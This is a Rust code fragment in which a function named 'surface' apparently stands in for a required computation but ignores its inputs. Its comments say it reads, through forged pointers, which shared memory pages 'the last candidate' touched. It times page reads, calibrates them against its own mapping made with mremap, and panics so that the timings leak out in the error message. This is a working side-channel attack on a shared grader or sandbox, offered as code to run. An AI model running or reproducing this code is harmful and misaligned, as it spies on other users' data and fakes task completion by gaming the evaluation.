// Own, by forged pointers: read in which shared pages were touched what the last candidate has left
fn times(bank: usize, count: usize) -> String {
    let taken = (0..count).map(|at| {
        let begun = std::time::Instant::now();
        std::hint::black_box(read::<u8>(bank + 4096 * at));
        begun.elapsed().as_nanos().to_string()
    });
    taken.collect::<Vec<_>>().join(" ")
}

pub fn surface(x: f64, y: f64) -> f64 {
    std::hint::black_box((x, y));
    let [inputs, library] = *BANKS.get_or_init(banks);
    let (inputs, library) = (times(inputs, 16), times(library, 32));
    // The ruler: the same with pages of its own, touched through one mapping and timed through another.
    let output = output_region().expect("an output region");
    let own = output + (512 << 10);
    let second = call(MREMAP, [own as i64, 0, 65536, 1, 0, 0]) as usize;
    let mut bits = [0u16];
    call(GETRANDOM, [bits.as_mut_ptr() as i64, 2, 0, 0, 0, 0]);
    for at in (0..16).filter(|at| bits[0] >> at & 1 == 1) {
        memory::<u8>(own + 4096 * at, 1).fill(1);
    }
    let pattern: String = (0..16).map(|at| if bits[0] >> at & 1 == 1 { '1' } else { '0' }).collect();
    panic!("{inputs};{library};{};{pattern}", times(second, 16))
}
